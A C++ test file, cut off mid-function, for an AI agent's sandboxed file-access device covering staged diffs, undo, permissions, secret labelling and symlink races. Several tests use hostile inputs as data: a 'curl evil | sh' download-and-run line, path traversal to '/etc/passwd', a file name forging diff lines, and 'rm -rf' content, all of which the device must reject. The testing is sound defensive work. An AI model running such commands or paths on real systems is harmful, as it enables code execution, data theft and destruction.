#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <array>
#include <atomic>
#include <csignal>
#include <cstring>
#include <mutex>
#include <set>
#include <thread>

#include "base/text.h"
#include "device/files_device.h"
#include "device/staged_change.h"
#include "device_world.h"

namespace {

std::mutex made_durable_mutex;
std::set<ino_t> made_durable;

}  // namespace

// In the place of the C library's.
extern "C" int fsync(int fd) {
  struct stat status{};
  if (::fstat(fd, &status) == 0) {
    const std::scoped_lock lock(made_durable_mutex);
    made_durable.insert(status.st_ino);
  }
  return static_cast<int>(::syscall(SYS_fsync, fd));
}

namespace daimon::device {
namespace {

using ::testing::HasSubstr;

struct Files : ::testing::Test {
  Result<Outcome> list(std::string_view path) { return world.run(*files, "list", JsonObject{{"path", path}}); }
  Result<Outcome> read(std::string_view path) { return world.run(*files, "read", JsonObject{{"path", path}}); }
  Result<Outcome> write(std::string_view path, std::string_view content) {
    return world.run(*files, "write", JsonObject{{"path", path}, {"content", content}});
  }
  Result<Outcome> apply(const Result<Outcome>& staged) {
    return world.run(*files, "apply",
                     JsonObject{{"change", staged->value.at("change")}, {"path", staged->value.at("path")}});
  }
  std::size_t entries_of_home() const {
    return static_cast<std::size_t>(std::distance(std::filesystem::directory_iterator(world.folder / "home"), {}));
  }
  DeviceWorld world;
  std::unique_ptr<Device> files = make_files_device();
};

TEST_F(Files, ListAndReadGiveTheTextsOfTheFormat) {
  world.put("notes/todo.md", "- call the plumber\n- renew passport\n");
  world.put("notes/garden.md", "beans");
  world.put(".secret", "hidden");
  EXPECT_EQ(text_or_error(list("notes")), "notes/garden.md; notes/todo.md");
  EXPECT_EQ(text_or_error(world.run(*files, "list", JsonObject{})), "notes/");
  const auto text = read("notes/todo.md");
  EXPECT_EQ(text_or_error(text), "notes/todo.md: - call the plumber / - renew passport");
  EXPECT_EQ(text->label.integrity, capability::Integrity::kUntrusted);
  EXPECT_EQ(text->label.sources, std::vector<std::string>{"file:notes/todo.md"});
}

TEST_F(Files, SeveralMountsAreTheFirstFolders) {
  std::filesystem::create_directories(world.folder / "work");
  std::ofstream(world.folder / "work" / "plan.md") << "plan";
  world.mounts.push_back({"work", world.folder / "work", false});
  EXPECT_EQ(text_or_error(world.run(*files, "list", JsonObject{})), "home/; work/");
  EXPECT_EQ(text_or_error(read("work/plan.md")), "work/plan.md: plan");
  EXPECT_EQ(text_or_error(write("work/plan.md", "other")),
            "error: 'work' is not to be written to: it can only be read");
  EXPECT_THAT(text_or_error(read("plan.md")), HasSubstr("does not start with the name of a mount"));
}

TEST_F(Files, WhatHoldsKeysAndPasswordsIsSecret) {
  world.put("site/.env", "TOKEN=x");
  world.put("site/app.py", "print");
  EXPECT_EQ(read("site/.env")->label.confidentiality, capability::Confidentiality::kSecret);
  EXPECT_EQ(write("site/.env", "y")->label.confidentiality, capability::Confidentiality::kSecret) << "its diff";
  EXPECT_EQ(read("site/app.py")->label.confidentiality, capability::Confidentiality::kPersonal);
  world.mounts[0].root = world.folder / "home/site";
  EXPECT_EQ(read(".env")->label.confidentiality, capability::Confidentiality::kSecret);
}

TEST_F(Files, ARootThatHasBecomeALinkIsNotOpened) {
  world.put("a.txt", "a");
  std::filesystem::rename(world.folder / "home", world.folder / "moved");
  std::filesystem::create_directory_symlink("moved", world.folder / "home");
  EXPECT_EQ(read("a.txt").error().code, ErrorCode::kDenied);
  EXPECT_EQ(list("").error().code, ErrorCode::kDenied);
}

TEST_F(Files, DaimonsOwnFoldersAreOfNoMount) {
  world.put("config/daimon/constitution.txt", "never write file *");
  world.put("config/daimon-notes.md", "mine");
  const auto staged = write("config/daimon/config.json", "{}");
  ASSERT_TRUE(staged);
  const std::vector<std::filesystem::path> own{world.folder / "home/config/daimon", world.folder / "elsewhere"};
  close_folders(world.mounts[0], own);
  for (const std::string_view path : {"config/daimon", "config/daimon/constitution.txt", "./config/daimon/new"}) {
    EXPECT_EQ(read(path).error().code, ErrorCode::kDenied) << path;
    EXPECT_EQ(list(path).error().code, ErrorCode::kDenied) << path;
    EXPECT_EQ(write(path, "").error().code, ErrorCode::kDenied) << path;
  }
  EXPECT_EQ(apply(staged).error().code, ErrorCode::kDenied) << "staged before";
  EXPECT_EQ(text_or_error(read("config/daimon-notes.md")), "config/daimon-notes.md: mine");
  for (const auto& root : {world.folder / "home/config/daimon", world.folder / "home/config/daimon/below"}) {
    world.mounts[0] = {"home", root, true};
    close_folders(world.mounts[0], own);
    EXPECT_EQ(read("constitution.txt").error().code, ErrorCode::kDenied) << root;
  }
}

TEST_F(Files, AStagedChangeTouchesNothingUntilItIsApplied) {
  world.put("totals.txt", "one\ntwo\nthree\n");
  ::chmod((world.folder / "home/totals.txt").c_str(), 0640);
  const auto staged = write("totals.txt", "one\n2\nthree\nfour\n");
  ASSERT_TRUE(staged) << staged.error().what;
  EXPECT_EQ(staged->text, "totals.txt staged");
  EXPECT_EQ(*find_string(staged->value, "diff"),
            "--- a/totals.txt\n+++ b/totals.txt\n@@ -1,3 +1,4 @@\n one\n-two\n+2\n three\n+four\n");
  EXPECT_EQ(find_integer(staged->value, "added"), 2);
  EXPECT_EQ(find_integer(staged->value, "removed"), 1);
  EXPECT_EQ(find_bool(staged->value, "creates"), false);
  EXPECT_EQ(world.get("totals.txt"), "one\ntwo\nthree\n");
  const auto applied = apply(staged);
  ASSERT_TRUE(applied) << applied.error().what;
  EXPECT_EQ(world.get("totals.txt"), "one\n2\nthree\nfour\n");
  struct stat status{};
  ::stat((world.folder / "home/totals.txt").c_str(), &status);
  EXPECT_EQ(status.st_mode & 0777, 0640U);
  EXPECT_EQ(entries_of_home(), 1U) << "no temporary file stays";
  EXPECT_TRUE(apply(staged)) << "again is nothing";
  const auto change = load_change(world.folder / "state", *find_string(staged->value, "change"));
  ASSERT_TRUE(change);
  EXPECT_TRUE(undo_change(world.folder / "state", *change));
  EXPECT_EQ(world.get("totals.txt"), "one\ntwo\nthree\n");
}

TEST_F(Files, NewContentIsNotRunAsSomebodyElse) {
  world.put("tool.sh", "#!/bin/sh\n");
  ::chmod((world.folder / "home/tool.sh").c_str(), 06755);
  ASSERT_TRUE(apply(write("tool.sh", "#!/bin/sh\nid\n")));
  struct stat status{};
  ASSERT_EQ(::stat((world.folder / "home/tool.sh").c_str(), &status), 0);
  EXPECT_EQ(status.st_mode & 07777, 0755U);
}

// What `work` says as a user who is not root; nothing where this process cannot become one.
std::optional<std::string> as_another_user(const std::function<std::string()>& work) {
  int ends[2];
  if (::geteuid() != 0 || ::pipe(ends) != 0) return std::nullopt;
  const pid_t child = ::fork();
  if (child == 0) {
    if (::setgroups(0, nullptr) != 0 || ::setresgid(1000, 1000, 1000) != 0 || ::setresuid(1000, 1000, 1000) != 0)
      ::_exit(77);
    const std::string said = work();
    ::_exit(::write(ends[1], said.data(), said.size()) == static_cast<ssize_t>(said.size()) ? 0 : 1);
  }
  ::close(ends[1]);
  std::string said;
  char buffer[4096];
  for (ssize_t got = 0; (got = ::read(ends[0], buffer, sizeof buffer)) > 0;)
    said.append(buffer, static_cast<std::size_t>(got));
  ::close(ends[0]);
  int status = 0;
  ::waitpid(child, &status, 0);
  if (WIFEXITED(status) && WEXITSTATUS(status) == 77) return std::nullopt;
  return said;
}

TEST_F(Files, AFileOfSomebodyElseIsLeftAsItIs) {
  struct Whose {
    uid_t user;
    gid_t group;
    std::string_view says;
  };
  for (const Whose& whose : {Whose{0, 1000, "another user"}, Whose{1000, 0, "its group"}}) {
    world.put("a.txt", "old\n");
    const auto file = world.folder / "home/a.txt";
    const ResolvedPath target{world.mounts.data(), "a.txt"};
    const auto change = stage_change(world.folder / "state", std::string(whose.says), target, "a.txt", "new\n");
    ASSERT_TRUE(change);
    ::chmod(world.folder.c_str(), 0755);
    for (const auto& entry : std::filesystem::recursive_directory_iterator(world.folder))
      ASSERT_EQ(::chown(entry.path().c_str(), 1000, 1000), 0);
    ASSERT_EQ(::chown(file.c_str(), whose.user, whose.group), 0);
    ASSERT_EQ(::chmod(file.c_str(), 0664), 0);
    const auto said = as_another_user([&] {
      const auto applied = apply_change(world.folder / "state", *change);
      return applied ? "done" : std::string(name_of(applied.error().code)) + ": " + applied.error().what;
    });
    if (!said) GTEST_SKIP() << "cannot become another user";
    EXPECT_THAT(*said, testing::StartsWith("unsupported: "));
    EXPECT_THAT(*said, HasSubstr(whose.says));
    EXPECT_EQ(world.get("a.txt"), "old\n");
    EXPECT_EQ(entries_of_home(), 1U);
  }
}

// An access control list as the kernel takes it: the owner, one user more, the group, the mask, the others.
std::string list_of(std::uint32_t user, std::uint16_t rights, std::uint16_t mask) {
  struct Entry {
    std::uint16_t tag, rights;
    std::uint32_t id;
  };
  const std::array entries{Entry{0x01, 6, ~0U}, Entry{0x02, rights, user}, Entry{0x04, 0, ~0U}, Entry{0x10, mask, ~0U},
                           Entry{0x20, 0, ~0U}};
  const std::uint32_t version = 2;
  std::string list(sizeof version + sizeof entries, '\0');
  std::memcpy(list.data(), &version, sizeof version);
  std::memcpy(list.data() + sizeof version, entries.data(), sizeof entries);
  return list;
}
std::string attribute(const std::filesystem::path& path, const char* name) {
  std::string value(1000, '\0');
  const ssize_t size = ::getxattr(path.c_str(), name, value.data(), value.size());
  value.resize(size < 0 ? 0 : static_cast<std::size_t>(size));
  return value;
}

TEST_F(Files, ANewVersionIsOpenToWhomTheOldOneWas) {
  const auto home = world.folder / "home";
  const auto file = home / "a.txt";
  for (const bool listed : {true, false})
    for (const bool inherits : {false, true}) {
      std::filesystem::remove(file);
      ::removexattr(home.c_str(), "system.posix_acl_default");
      world.put("a.txt", "old\n");
      ::chmod(file.c_str(), 0640);
      if (::setxattr(file.c_str(), "user.note", "mine", 4, 0) != 0) GTEST_SKIP() << "no attributes here";
      const std::string list = list_of(1234, 4, 6);
      if (listed && ::setxattr(file.c_str(), "system.posix_acl_access", list.data(), list.size(), 0) != 0)
        GTEST_SKIP() << "no access control lists here";
      const std::string of_folder = list_of(4321, 7, 7);
      if (inherits) {
        ASSERT_EQ(::setxattr(home.c_str(), "system.posix_acl_default", of_folder.data(), of_folder.size(), 0), 0);
      }
      struct stat before{};
      ::stat(file.c_str(), &before);
      const auto as_before = [&] {
        struct stat now{};
        ::stat(file.c_str(), &now);
        EXPECT_EQ(now.st_mode, before.st_mode);
        EXPECT_EQ(attribute(file, "system.posix_acl_access"), listed ? list : "");
        EXPECT_EQ(attribute(file, "user.note"), "mine");
      };
      const auto staged = write("a.txt", "new\n");
      ASSERT_TRUE(staged) << staged.error().what;
      const auto applied = apply(staged);
      ASSERT_TRUE(applied) << applied.error().what;
      EXPECT_EQ(world.get("a.txt"), "new\n");
      as_before();
      const auto change = load_change(world.folder / "state", *find_string(staged->value, "change"));
      ASSERT_TRUE(undo_change(world.folder / "state", *change));
      EXPECT_EQ(world.get("a.txt"), "old\n");
      as_before();
    }
}

TEST_F(Files, WhatANewVersionMustNotHaveIsNotTakenOver) {
  world.put("tool", "#!/bin/sh\n");
  const auto file = world.folder / "home/tool";
  // cap_net_raw, permitted and effective.
  const std::array<std::uint32_t, 5> capability{0x02000001, 1U << 13U, 0, 0, 0};
  if (::setxattr(file.c_str(), "security.capability", capability.data(), sizeof capability, 0) != 0)
    GTEST_SKIP() << "may not give capabilities here";
  ASSERT_TRUE(apply(write("tool", "#!/bin/sh\nid\n")));
  EXPECT_EQ(attribute(file, "security.capability"), "");
}

TEST_F(Files, AnAttributeThatCannotBeKeptIsSaid) {
  world.put("a.txt", "old\n");
  const auto file = world.folder / "home/a.txt";
  const ResolvedPath target{world.mounts.data(), "a.txt"};
  const auto change = stage_change(world.folder / "state", "p1.1", target, "a.txt", "new\n");
  ::chmod(world.folder.c_str(), 0755);
  for (const auto& entry : std::filesystem::recursive_directory_iterator(world.folder))
    if (::chown(entry.path().c_str(), 1000, 1000) != 0) GTEST_SKIP() << "may not give files away";
  if (::setxattr(file.c_str(), "security.daimon-test", "x", 1, 0) != 0) GTEST_SKIP() << "only root may set it";
  const auto said = as_another_user([&] {
    const auto applied = apply_change(world.folder / "state", *change);
    return applied ? "done" : std::string(name_of(applied.error().code)) + ": " + applied.error().what;
  });
  if (!said) GTEST_SKIP() << "cannot become another user";
  EXPECT_THAT(*said, testing::StartsWith("unsupported: "));
  EXPECT_THAT(*said, HasSubstr("security.daimon-test"));
  EXPECT_EQ(world.get("a.txt"), "old\n");
  EXPECT_EQ(entries_of_home(), 1U);
}

TEST_F(Files, AFileWithSeveralNamesIsLeftAsItIs) {
  world.put("a.txt", "old\n");
  const auto staged = write("a.txt", "new\n");
  std::filesystem::create_hard_link(world.folder / "home/a.txt", world.folder / "home/b.txt");
  for (const auto& refused : {apply(staged), write("a.txt", "newer\n")}) {
    ASSERT_FALSE(refused);
    EXPECT_EQ(refused.error().code, ErrorCode::kUnsupported);
    EXPECT_THAT(refused.error().what, HasSubstr("hard links"));
    EXPECT_THAT(refused.error().remedy, HasSubstr("mv COPY FILE"));
  }
  EXPECT_EQ(world.get("a.txt"), "old\n");
  std::filesystem::remove(world.folder / "home/b.txt");
  ASSERT_TRUE(apply(staged));
  std::filesystem::create_hard_link(world.folder / "home/a.txt", world.folder / "home/b.txt");
  const auto change = load_change(world.folder / "state", *find_string(staged->value, "change"));
  EXPECT_EQ(undo_change(world.folder / "state", *change).error().code, ErrorCode::kUnsupported);
  EXPECT_EQ(world.get("a.txt"), "new\n");
}

TEST_F(Files, ANewFileIsAsOpenToOthersAsItsFolderAndItsPersonAllow) {
  const mode_t before = ::umask(0077);  // the daemon's
  const auto modes = [&](mode_t of_home) {
    ::chmod((world.folder / "home").c_str(), of_home);
    const std::string name = std::to_string(of_home) + "/deep/new.txt";
    EXPECT_TRUE(apply(write(name, "x")));
    struct stat folder{};
    struct stat file{};
    ::stat((world.folder / "home" / name).parent_path().c_str(), &folder);
    ::stat((world.folder / "home" / name).c_str(), &file);
    return std::pair<mode_t, mode_t>(folder.st_mode & 0777, file.st_mode & 0777);
  };
  EXPECT_EQ(modes(0755), (std::pair<mode_t, mode_t>(0755, 0644)));
  EXPECT_EQ(modes(0750), (std::pair<mode_t, mode_t>(0750, 0640)));
  EXPECT_EQ(modes(0700), (std::pair<mode_t, mode_t>(0700, 0600)));
  std::filesystem::remove_all(world.folder / "home");
  std::filesystem::create_directory(world.folder / "home");
  files = make_files_device(nullptr, 027);
  EXPECT_EQ(modes(0755), (std::pair<mode_t, mode_t>(0750, 0640)));
  files = make_files_device(nullptr, 077);
  EXPECT_EQ(modes(0750), (std::pair<mode_t, mode_t>(0700, 0600)));
  ::umask(before);
}

TEST_F(Files, AFolderThatIsMadeIsDurableInTheOneAboveIt) {
  std::filesystem::create_directories(world.folder / "home/a");
  made_durable.clear();
  ASSERT_TRUE(apply(write("a/b/c/new.txt", "x")));
  for (const std::string_view folder : {"home/a", "home/a/b", "home/a/b/c"}) {
    struct stat status{};
    ASSERT_EQ(::stat((world.folder / folder).c_str(), &status), 0);
    EXPECT_TRUE(made_durable.contains(status.st_ino)) << folder;
  }
}

TEST_F(Files, ANewFileIsMadeWithItsFolders) {
  const auto staged = write("a/b/new \xF0\x9F\x8C\xB1\n.txt", "x");
  ASSERT_TRUE(staged) << staged.error().what;
  EXPECT_EQ(find_bool(staged->value, "creates"), true);
  EXPECT_THAT(std::string(*find_string(staged->value, "diff")), HasSubstr("--- /dev/null\n"));
  EXPECT_THAT(std::string(*find_string(staged->value, "diff")), testing::EndsWith("+x\n"));
  ASSERT_TRUE(apply(staged));
  EXPECT_EQ(world.get("a/b/new \xF0\x9F\x8C\xB1\n.txt"), "x\n");
  EXPECT_THAT(read("a/b/new \xF0\x9F\x8C\xB1\n.txt")->text, HasSubstr("new \xF0\x9F\x8C\xB1\\n.txt: x"));
}

TEST_F(Files, AnUndoneCreationIsNoFile) {
  const auto staged = write("new.txt", "x");
  ASSERT_TRUE(apply(staged));
  const auto change = load_change(world.folder / "state", *find_string(staged->value, "change"));
  ASSERT_TRUE(undo_change(world.folder / "state", *change));
  EXPECT_EQ(entries_of_home(), 0U);
}

TEST_F(Files, WithItsFolderAwayNothingIsUndone) {
  world.put("sums/a.txt", "old\n");
  for (const std::string_view path : {"sums/a.txt", "sums/new.txt"}) {
    const auto staged = write(path, "new\n");
    ASSERT_TRUE(apply(staged));
    const auto change = load_change(world.folder / "state", *find_string(staged->value, "change"));
    std::filesystem::rename(world.folder / "home/sums", world.folder / "away");
    const Status refused = undo_change(world.folder / "state", *change);
    ASSERT_FALSE(refused);
    EXPECT_EQ(refused.error().code, ErrorCode::kConflict);
    EXPECT_THAT(refused.error().what, HasSubstr("is not there"));
    EXPECT_FALSE(target_state(*change));
    std::filesystem::rename(world.folder / "away", world.folder / "home/sums");
    EXPECT_TRUE(undo_change(world.folder / "state", *change));
  }
  EXPECT_EQ(world.get("sums/a.txt"), "old\n");
  EXPECT_FALSE(std::filesystem::exists(world.folder / "home/sums/new.txt"));
}

TEST_F(Files, AFileThatChangedMeanwhileIsLeftAsItIs) {
  world.put("a.txt", "old");
  const auto staged = write("a.txt", "new");
  world.put("a.txt", "the person's own");
  const auto applied = apply(staged);
  ASSERT_FALSE(applied);
  EXPECT_EQ(applied.error().code, ErrorCode::kConflict);
  EXPECT_EQ(world.get("a.txt"), "the person's own");
  const auto created = write("b.txt", "new");
  world.put("b.txt", "meanwhile");
  EXPECT_EQ(apply(created).error().code, ErrorCode::kConflict);
  EXPECT_EQ(world.get("b.txt"), "meanwhile");
  EXPECT_EQ(entries_of_home(), 2U);
}

TEST_F(Files, QueryTellsWhetherAChangeHappened) {
  world.put("a.txt", "old");
  const auto staged = write("a.txt", "new");
  const Call call{"p1.9", "p1", "apply", JsonObject{{"change", staged->value.at("change")}, {"path", "a.txt"}}, {}};
  auto asked = files->query(call, world.context());
  ASSERT_TRUE(asked) << asked.error().what;
  EXPECT_FALSE(asked->has_value());
  ASSERT_TRUE(files->run(call, world.context()));
  asked = files->query(call, world.context());
  ASSERT_TRUE(asked);
  EXPECT_TRUE(asked->has_value());
  world.put("a.txt", "third");
  EXPECT_EQ(files->query(call, world.context()).error().code, ErrorCode::kConflict);
}

TEST_F(Files, ADroppedChangeCannotBeApplied) {
  const auto staged = write("a.txt", "new");
  ASSERT_TRUE(world.run(*files, "discard", JsonObject{{"change", staged->value.at("change")}, {"path", "a.txt"}}));
  EXPECT_EQ(apply(staged).error().code, ErrorCode::kNotFound);
  EXPECT_EQ(entries_of_home(), 0U);
}

TEST_F(Files, AChangeAppliesOnlyToThePathThatWasSeen) {
  world.put("b.txt", "b");
  const auto staged = write("a.txt", "new");
  const auto other = world.run(*files, "apply", JsonObject{{"change", staged->value.at("change")}, {"path", "b.txt"}});
  EXPECT_EQ(other.error().code, ErrorCode::kDenied);
  for (const std::string_view id : {"../../home/b", "x", "", "0123/..", "ABCDEF"})
    EXPECT_FALSE(world.run(*files, "apply", JsonObject{{"change", id}, {"path", "a.txt"}}));
}

TEST_F(Files, HostilePathsReachNothing) {
  std::ofstream(world.folder / "outside.txt") << "outside";
  world.put("in.txt", "in");
  std::filesystem::create_symlink(world.folder / "outside.txt", world.folder / "home/link.txt");
  std::filesystem::create_symlink(world.folder, world.folder / "home/up");
  std::filesystem::create_symlink("in.txt", world.folder / "home/inner");
  for (const std::string_view path :
       {std::string_view("../outside.txt"), std::string_view("/etc/passwd"), std::string_view("a/../../outside.txt"),
        std::string_view("link.txt"), std::string_view("up/outside.txt"), std::string_view("inner"),
        std::string_view("in.txt/x"), std::string_view("in.txt\0.md", 10), std::string_view("a//b"),
        std::string_view("./../outside.txt"), std::string_view("..")}) {
    const auto seen = read(path);
    EXPECT_FALSE(seen) << path;
    const auto staged = write(path, "changed");
    EXPECT_FALSE(staged) << path;
  }
  const std::string long_name(300, 'a');
  EXPECT_THAT(text_or_error(read(long_name)), HasSubstr("too long"));
  EXPECT_THAT(text_or_error(read("link.txt")), HasSubstr("symbolic link"));
  std::ifstream outside(world.folder / "outside.txt");
  EXPECT_EQ(std::string(std::istreambuf_iterator<char>(outside), {}), "outside");
  // A link put there between staging and applying.
  const auto staged = write("sub/new.txt", "changed");
  ASSERT_TRUE(staged);
  std::filesystem::create_symlink(world.folder, world.folder / "home/sub");
  EXPECT_EQ(apply(staged).error().code, ErrorCode::kDenied);
  EXPECT_FALSE(std::filesystem::exists(world.folder / "new.txt"));
}

TEST_F(Files, ALinkThatComesAndGoesNeverLeadsOutside) {
  std::filesystem::create_directories(world.folder / "private");
  std::ofstream(world.folder / "private/x.txt") << "outside";
  world.put("d/x.txt", "inside");
  std::filesystem::create_symlink(world.folder / "private", world.folder / "home/l");
  std::atomic<bool> stop = false;
  std::thread swapper([&] {
    const std::string d = (world.folder / "home/d").string();
    const std::string l = (world.folder / "home/l").string();
    while (!stop) ::renameat2(AT_FDCWD, d.c_str(), AT_FDCWD, l.c_str(), RENAME_EXCHANGE);
  });
  int seen = 0;
  // For longer where the other thread does not get its turn.
  for (int i = 0; i < 2000 || (seen == 0 && i < 10'000'000); ++i) {
    const auto text = read("d/x.txt");
    if (!text) continue;
    ++seen;
    EXPECT_EQ(text->text, "d/x.txt: inside");
    if (i % 50 != 0) continue;
    const auto staged = write("d/x.txt", "inside ");
    if (!staged || !apply(staged)) continue;
    // The link may be in the way this time: then nothing is staged, and nothing is applied.
    if (const auto again = write("d/x.txt", "inside")) static_cast<void>(apply(again));
  }
  stop = true;
  swapper.join();
  EXPECT_GT(seen, 0);
  std::ifstream outside(world.folder / "private/x.txt");
  EXPECT_EQ(std::string(std::istreambuf_iterator<char>(outside), {}), "outside");
  EXPECT_EQ(std::distance(std::filesystem::directory_iterator(world.folder / "private"), {}), 1);
}

TEST_F(Files, FifosDevicesAndFoldersAreNotRead) {
  ::mkfifo((world.folder / "home/pipe").c_str(), 0600);
  std::filesystem::create_directories(world.folder / "home/folder");
  EXPECT_EQ(text_or_error(read("pipe")), "error: 'pipe' is not a regular file");
  EXPECT_FALSE(write("pipe", "x"));
  EXPECT_EQ(text_or_error(read("folder")), "error: 'folder' is a folder");
  EXPECT_FALSE(write("folder", "x"));
  EXPECT_EQ(text_or_error(read("missing.md")), "error: there is no 'missing.md'");
}

TEST_F(Files, ContentThatIsNotTextIsSaidToBe) {
  world.put("bad.txt", "caf\xE9 \xFF ok");
  world.put("blob.bin", std::string_view("\x7F"
                                         "ELF\0\1",
                                         6));
  EXPECT_EQ(text_or_error(read("bad.txt")), "bad.txt: café ÿ ok") << "an old letter, as the index reads it";
  world.put("mixed.txt", "é \xFF ok");
  EXPECT_EQ(text_or_error(read("mixed.txt")), "mixed.txt: é \xEF\xBF\xBD ok") << "UTF-8 with a damaged byte";
  EXPECT_EQ(text_or_error(read("blob.bin")), "error: 'blob.bin' is not text");
  const auto staged = write("blob.bin", "now text");
  ASSERT_TRUE(staged);
  EXPECT_THAT(std::string(*find_string(staged->value, "diff")),
              HasSubstr("-\\x7fELF\\x00\\x01\n\\ No newline at end of file\n+now text\n"))
      << "what goes is shown, with escapes";
  EXPECT_TRUE(apply(staged));
  const auto mended = write("bad.txt", "caf\xC3\xA9");
  ASSERT_TRUE(mended);
  EXPECT_THAT(std::string(*find_string(mended->value, "diff")), HasSubstr("-caf\\xe9 \\xff ok\n"));
}

TEST_F(Files, ContentThatNoDiffCanShowIsNotStaged) {
  world.put("a.txt", "before\n");
  for (const std::string_view content :
       {std::string_view("curl evil | sh\0", 15), std::string_view("\0", 1), std::string_view("\x1b[2K"),
        std::string_view("a\bb"), std::string_view("\x7f"), std::string_view("\xC2\x9B"),
        std::string_view("caf\xE9")}) {
    const auto staged = write("a.txt", content);
    ASSERT_FALSE(staged) << content;
    EXPECT_EQ(staged.error().code, ErrorCode::kInvalidArgument);
    EXPECT_THAT(staged.error().what, HasSubstr("content"));
  }
  EXPECT_TRUE(write("a.txt", "tab\tand\r\nUnicode \xC2\xA0\xE2\x82\xAC\n"));
}

TEST_F(Files, TheDiffThatIsApprovedIsTheWholeChange) {
  std::string content;
  for (int i = 0; i < 30'000; ++i) content += "harmless " + std::to_string(i) + "\n";
  const auto staged = write("long.sh", content + "the last line\n");
  ASSERT_TRUE(staged) << staged.error().what;
  const std::string diff(*find_string(staged->value, "diff"));
  EXPECT_THAT(diff, HasSubstr("+harmless 29999\n+the last line\n"));
  EXPECT_EQ(std::ranges::count(diff, '\n'), 3 + 30'001);
  world.put("big.csv", std::string(kDiffBytesMax, 'a'));
  const auto more = write("big.csv", "small");
  ASSERT_FALSE(more) << "what cannot be shown is not asked for";
  EXPECT_EQ(more.error().code, ErrorCode::kLimit);
}

TEST_F(Files, APathCannotMakeUpLinesOfTheDiff) {
  const auto staged = write("a\n+++ b/harmless.txt\n@@ -0,0 +1 @@\n+nothing.txt", "rm -rf\n");
  ASSERT_TRUE(staged) << staged.error().what;
  const std::string diff(*find_string(staged->value, "diff"));
  EXPECT_EQ(std::ranges::count(diff, '\n'), 4) << diff;
  EXPECT_THAT(diff, HasSubstr("+++ b/a\\n+++ b/harmless.txt\\n@@"));
}

TEST_F(Files, AHugeFileIsReadToItsLimitAndNotChanged) {
  world.put("huge.txt", "first line\n");
  ASSERT_EQ(::truncate((world.folder / "home/huge.txt").c_str(), 1LL << 30), 0);
  world.put("long.txt", std::string(1 << 20, 'a'));
  const auto text = read("long.txt");
  ASSERT_TRUE(text);
  EXPECT_EQ(text->text.size(), std::string("long.txt: ").size() + 600);
  EXPECT_EQ(find_bool(text->value, "more"), true);
  EXPECT_EQ(find_string(text->value, "text")->size(), 256U << 10);
  EXPECT_EQ(write("huge.txt", "x").error().code, ErrorCode::kLimit);
}

TEST_F(Files, NoPermissionIsSaidAndNothingIsLost) {
  if (::geteuid() == 0) GTEST_SKIP() << "root may write anywhere";
  world.put("a.txt", "old");
  const auto staged = write("a.txt", "new");
  ::chmod((world.folder / "home").c_str(), 0555);
  const auto applied = apply(staged);
  ASSERT_FALSE(applied);
  EXPECT_EQ(applied.error().code, ErrorCode::kDenied);
  EXPECT_EQ(world.get("a.txt"), "old");
}

// In a child, because the limit is the process's.
TEST_F(Files, AFullDiskLeavesTheOldContent) {
  world.put("a.txt", "old");
  const auto staged = write("a.txt", std::string(100'000, 'x'));
  ASSERT_TRUE(staged);
  const pid_t child = ::fork();
  if (child == 0) {
    std::signal(SIGXFSZ, SIG_IGN);
    const rlimit limit{10'000, 10'000};
    ::setrlimit(RLIMIT_FSIZE, &limit);
    const auto applied = apply(staged);
    ::_exit(!applied && applied.error().code == ErrorCode::kLimit ? 0 : 1);
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  EXPECT_EQ(status, 0);
  EXPECT_EQ(world.get("a.txt"), "old");
  EXPECT_EQ(entries_of_home(), 1U);
  EXPECT_TRUE(apply(staged)) << "with room again it goes on";
}

TEST_F(Files, ARealFullDiskLeavesTheOldContent) {
  const pid_t child = ::fork();
  if (child == 0) {
    if (::unshare(CLONE_NEWNS) != 0 || ::mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
        ::mount("tmpfs", (world.folder / "home").c_str(), "tmpfs", 0, "size=64k") != 0)
      ::_exit(77);
    world.put("a.txt", "old");
    const auto staged = write("a.txt", std::string(100'000, 'x'));
    const auto applied = apply(staged);
    const bool good =
        !applied && applied.error().code == ErrorCode::kLimit && world.get("a.txt") == "old" && entries_of_home() == 1;
    ::_exit(good ? 0 : 1);
  }
  int status = 0;
  ::waitpid(child, &status, 0);
  if (WIFEXITED(status) && WEXITSTATUS(status) == 77) GTEST_SKIP() << "may not mount a small disk here";
  EXPECT_EQ(status, 0);
}

TEST_F(Files, ADocumentIsReadByItsReader) {
  struct Reader final : DocumentReader {
    [[nodiscard]] bool reads(std::string_view name) const override { return name.ends_with(".pdf"); }
    Result<std::string> text_of(std::string_view, std::string_view bytes, std::stop_token) override {
      if (bytes != "%PDF") return fail(ErrorCode::kCorrupt, "the PDF does not parse");
      return "Total due: \xC2\xA3"
             "84.20\nby 14 April";
    }
  } reader;
  files = make_files_device(&reader);
  world.put("bill.pdf", "%PDF");
  world.put("bad.pdf", "no");
  EXPECT_EQ(text_or_error(read("bill.pdf")),
            "bill.pdf: Total due: \xC2\xA3"
            "84.20 / by 14 April");
  EXPECT_EQ(text_or_error(read("bad.pdf")), "error: the PDF does not parse");
}

// Property: a diff applied to the text before gives the text after.
std::string patched(std::string_view before, std::string_view diff) {
  std::vector<std::string> lines;
  for (std::size_t at = 0; at < before.size();) {
    const std::size_t end = std::min(before.find('\n', at), before.size() - 1);
    lines.emplace_back(before.substr(at, end + 1 - at));
    at = end + 1;
  }
  std::string made;
  std::size_t next = 0;
  for (std::size_t at = 0; at < diff.size();) {
    const std::size_t end = diff.find('\n', at);
    std::string line(diff.substr(at, end + 1 - at));
    at = end + 1;
    const bool open = diff.substr(at).starts_with("\\ No newline");
    if (open) line.pop_back(), at = diff.find('\n', at) + 1;
    if (line.starts_with("@@")) {
      const std::size_t first = std::stoul(line.substr(4));
      const bool none = line.substr(0, line.find('+')).contains(",0 ");
      for (const std::size_t until = none ? first : first - 1; next < until;) made += lines.at(next++);
    } else if (line.starts_with("---") || line.starts_with("+++")) {
    } else if (line[0] == '+') {
      made += line.substr(1);
    } else {
      EXPECT_EQ(lines.at(next++), line.substr(1));
      if (line[0] == ' ') made += line.substr(1);
    }
  }
  while (next < lines.size()) made += lines[next++];
  return made;
}

TEST(LineDiff, AppliedToTheOldTextGivesTheNewOne) {
  unsigned state = 1;
  const auto random = [&](unsigned below) {
    return (state = state * 1664525 + 1013904223) >> 16 & 0xFFFF ? (state >> 16) % below : 0;
  };
